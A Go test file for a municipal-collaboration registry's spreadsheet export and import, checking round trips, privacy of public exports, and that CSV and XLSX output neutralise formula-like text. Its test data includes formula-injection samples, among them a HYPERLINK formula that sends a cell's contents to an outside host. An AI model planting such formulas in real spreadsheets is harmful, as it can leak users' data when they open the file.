package tabular_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/samverkan/samverkan"
	"github.com/samverkan/samverkan/internal/sqldb"
	"github.com/samverkan/samverkan/internal/sqldbtest"
	"github.com/samverkan/samverkan/internal/tabular"
)

func ptr[T any](v T) *T { return &v }

// seedRich creates collaborations that use every column of the template.
func seedRich(tb testing.TB, db *sqldb.DB) {
	tb.Helper()
	a := sqldbtest.Collaboration("Överförmyndare, GGVV", "0683", "0662", "0617", "0665")
	a.Networks = []string{"ggvv"}
	a.Description = "Gemensam nämnd.\nVärnamo är värd; nämnden har fem ledamöter."
	a.Areas = []string{"130", "290", "X-IT"}
	a.LegalForm = samverkan.FormJointCommittee
	a.Participants = append(a.Participants, samverkan.Participant{Party: "Region Jönköpings län", PartyKind: "region"})
	a.Start, a.End = samverkan.MustDate("2015-01-01"), samverkan.MustDate("2030-06-30")
	a.AnnualCost = ptr(int64(2400000))
	a.CostKey = "invanare"
	a.Documents = []samverkan.Document{{Type: "reglemente", Title: "Reglemente", ValidTo: samverkan.MustDate("2026-12-31")}}
	a.Contacts = []samverkan.Contact{{Function: "Överförmyndarhandläggare", Name: "Anna Andersson", Email: "anna@example.se", Phone: "0370-1234"},
		{Function: "Nämndsekreterare"}}
	sqldbtest.MustCreateCollaboration(tb, db, a)
	b := sqldbtest.Collaboration("Idé: gemensam e-arkivlösning", "0617", "0665")
	b.Networks = []string{"ggvv"}
	b.Status = samverkan.StatusIdea
	b.LegalForm = samverkan.FormUnknown
	b.Public = false
	sqldbtest.MustCreateCollaboration(tb, db, b)
}

// templateFields returns what the template carries of c, comparably.
func templateFields(c *samverkan.Collaboration) string {
	var munis, parties, contacts []string
	for _, p := range c.Participants {
		if p.Code != "" {
			munis = append(munis, p.Code)
		} else {
			parties = append(parties, p.Party+"/"+p.PartyKind)
		}
	}
	slices.Sort(munis)
	for _, ct := range c.Contacts {
		contacts = append(contacts, ct.Function)
	}
	agreement := ""
	if i := tabular.AgreementIndex(c); i >= 0 {
		agreement = c.Documents[i].ValidTo.String()
	}
	cost := "-"
	if c.AnnualCost != nil {
		cost = fmt.Sprint(*c.AnnualCost)
	}
	return fmt.Sprintf("%q %q %v %s %s %s %v %v %s %s %s %s %s %s %v %v", c.Title, c.Description, c.Areas, c.LegalForm, c.Status,
		c.Host, munis, parties, c.Start, c.End, agreement, cost, c.CostKey, c.Triage, contacts, c.Public)
}

// Acceptance 4: export → import into an empty database gives the same
// records, for XLSX and CSV.
func TestRoundTrip(t *testing.T) {
	src := newTestDB(t)
	seedRich(t, src)
	for _, format := range []string{"xlsx", "csv"} {
		t.Run(format, func(t *testing.T) {
			e, err := tabular.Load(context.Background(), src, src.Catalog(), "ggvv", false)
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			if err := e.Write(&buf, format); err != nil {
				t.Fatal(err)
			}
			dst := newTestDB(t)
			_, res := mustImport(t, dst, buf.Bytes())
			if res.Created != 2 {
				t.Fatalf("created %d", res.Created)
			}
			want, got := collabs(t, src), collabs(t, dst)
			for i := range want {
				if a, b := templateFields(got[i]), templateFields(want[i]); a != b {
					t.Errorf("round trip:\n got %s\nwant %s", a, b)
				}
			}
			// And importing the export back into the source changes nothing.
			_, res = mustImport(t, src, buf.Bytes())
			if res.Unchanged != 2 {
				t.Errorf("re-import into source: %+v", res)
			}
		})
	}
}

func TestExportXLSX(t *testing.T) {
	db := newTestDB(t)
	seedRich(t, db)
	for _, public := range []bool{false, true} {
		e, err := tabular.Load(context.Background(), db, db.Catalog(), "ggvv", public)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := e.WriteXLSX(&buf); err != nil {
			t.Fatal(err)
		}
		checkFirstSheet(t, buf.Bytes())
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(f.GetSheetList(), ","); got != "Samverkan,Deltagare,Dokument,Kontakter,Medlemmar" {
			t.Errorf("sheets %s", got)
		}
		rows, _ := f.GetRows("Samverkan")
		if want := 3; public {
			if len(rows) != 2 {
				t.Errorf("public export has %d rows, want header and 1 public record", len(rows))
			}
		} else if len(rows) != want {
			t.Errorf("%d rows, want %d", len(rows), want)
		}
		panes, _ := f.GetPanes("Samverkan")
		if !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("header row not frozen: %+v", panes)
		}
		contacts, _ := f.GetRows("Kontakter")
		all := fmt.Sprint(contacts)
		if public == strings.Contains(all, "anna@example.se") || public == strings.Contains(all, "Anna Andersson") {
			t.Errorf("public=%v contacts sheet: %v", public, contacts)
		}
	}
}

func TestExportJSONPublic(t *testing.T) {
	db := newTestDB(t)
	seedRich(t, db)
	e, err := tabular.Load(context.Background(), db, db.Catalog(), "ggvv", true)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := e.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	s := buf.String()
	if strings.Contains(s, "anna@example.se") || strings.Contains(s, "Anna Andersson") || strings.Contains(s, "0370-1234") ||
		strings.Contains(s, "e-arkiv") {
		t.Errorf("public JSON leaks personal data or non-public records:\n%s", s)
	}
	var out struct {
		Collaborations []samverkan.Collaboration `json:"collaborations"`
	}
	if err := json.Unmarshal(buf.Bytes(), &out); err != nil || len(out.Collaborations) != 1 {
		t.Errorf("decode: %v, %d records", err, len(out.Collaborations))
	}
}

// formulaTitles start like spreadsheet formulas: Excel runs them when it
// opens a CSV, unless they are neutralised.
var formulaTitles = []string{`=HYPERLINK("http://example.com/?q="&A1,"Klicka här")`, "+46 växeln", "-500", "@SUM(A1:A9)", "Vanlig titel", "'Citerad"}

func seedFormulas(tb testing.TB, db *sqldb.DB) {
	tb.Helper()
	for i, title := range formulaTitles {
		c := sqldbtest.Collaboration(title, "0662", "0617")
		c.Networks = []string{"ggvv"}
		c.AnnualCost = ptr(int64(500 * (i + 1)))
		c.Description = "=1+1"
		sqldbtest.MustCreateCollaboration(tb, db, c)
	}
}

// TestCSVFormulasNeutralised: every text field that starts with = + - @
// (or tab or CR) gets a leading quote in the CSV export, numbers do not,
// and importing the CSV gives the text back.
func TestCSVFormulasNeutralised(t *testing.T) {
	src := newTestDB(t)
	seedFormulas(t, src)
	e, err := tabular.Load(context.Background(), src, src.Catalog(), "ggvv", false)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := e.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := recs[0]
	col := func(name string) int { return slices.Index(head, name) }
	titles := map[string]bool{}
	for _, rec := range recs[1:] {
		title, cost := rec[col("Namn")], rec[col("Årlig kostnad")]
		titles[title] = true
		if title[0] != '\'' && strings.ContainsRune("=+-@\t\r", rune(title[0])) {
			t.Errorf("title %q written as it is", title)
		}
		if d := rec[col("Beskrivning")]; d != "'=1+1" {
			t.Errorf("description %q, want '=1+1", d)
		}
		if _, err := strconv.Atoi(cost); err != nil || strings.HasPrefix(cost, "'") {
			t.Errorf("cost %q is no longer a number", cost)
		}
		if _, err := strconv.Atoi(rec[col("ID")]); err != nil {
			t.Errorf("ID %q is no longer a number", rec[col("ID")])
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://example.com/?q="&A1,"Klicka här")`, "'+46 växeln", "'-500", "'@SUM(A1:A9)", "Vanlig titel", "'Citerad"} {
		if !titles[want] {
			t.Errorf("no title %q in %v", want, titles)
		}
	}

	dst := newTestDB(t)
	mustImport(t, dst, buf.Bytes())
	var got []string
	for _, c := range collabs(t, dst) {
		got = append(got, c.Title)
		if c.Description != "=1+1" {
			t.Errorf("%s: description %q after the round trip", c.Title, c.Description)
		}
	}
	want := slices.Clone(formulaTitles)
	slices.Sort(want)
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Errorf("titles after the round trip:\n got %q\nwant %q", got, want)
	}
	if _, res := mustImport(t, src, buf.Bytes()); res.Unchanged != len(formulaTitles) {
		t.Errorf("re-import into the source: %+v", res)
	}
}

// TestXLSXFormulasAreText: the XLSX export stores text that looks like a
// formula as a text cell: no formula, nothing for Excel to run.
func TestXLSXFormulasAreText(t *testing.T) {
	db := newTestDB(t)
	seedFormulas(t, db)
	e, err := tabular.Load(context.Background(), db, db.Catalog(), "ggvv", false)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := e.WriteXLSX(&buf); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula", f.Name)
		}
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := x.GetRows("Samverkan")
	found := 0
	for i, row := range rows[1:] {
		if !slices.Contains(formulaTitles, row[1]) {
			continue
		}
		found++
		cell := fmt.Sprintf("B%d", i+2)
		typ, _ := x.GetCellType("Samverkan", cell)
		if f, _ := x.GetCellFormula("Samverkan", cell); f != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("%s %q: type %v, formula %q", cell, row[1], typ, f)
		}
	}
	if found != len(formulaTitles) {
		t.Errorf("found %d of the titles as they are, want %d: %v", found, len(formulaTitles), rows)
	}
}

// checkFirstSheet reads the first sheet's XML as Excel would and wants it
// selected and active, and a filter on the header row over every written
// row and column: both are set before the rows are streamed, so this is
// where they could get lost.
func checkFirstSheet(t *testing.T, xlsx []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(xlsx))
	if err != nil {
		t.Fatal(err)
	}
	if f.GetActiveSheetIndex() != 0 {
		t.Errorf("active sheet %d, want the first", f.GetActiveSheetIndex())
	}
	rows, _ := f.GetRows("Samverkan")
	cols := 0
	for _, r := range rows {
		cols = max(cols, len(r))
	}
	last, _ := excelize.CoordinatesToCellName(cols, len(rows), true) // excelize writes absolute references
	for _, zf := range zr.File {
		if zf.Name != "xl/worksheets/sheet1.xml" {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(rc)
		rc.Close()
		if want := `<autoFilter ref="$A$1:` + last + `"`; !bytes.Contains(body, []byte(want)) {
			t.Errorf("sheet has no %s: %.300s", want, body[max(0, bytes.Index(body, []byte("</sheetData>"))):])
		}
		if i, j := bytes.Index(body, []byte(`<col min="1" `)), bytes.Index(body, []byte(`<col min="2" `)); i < 0 || j < i {
			t.Errorf("columns not in order (Excel repairs the file): %.300s", body[max(0, bytes.Index(body, []byte("<cols>"))):])
		}
		if !bytes.Contains(body, []byte(`tabSelected="true"`)) || !bytes.Contains(body, []byte(`state="frozen"`)) {
			t.Errorf("first sheet not selected with a frozen header: %.400s", body[bytes.Index(body, []byte("<sheetView")):])
		}
		return
	}
	t.Fatal("no xl/worksheets/sheet1.xml")
}
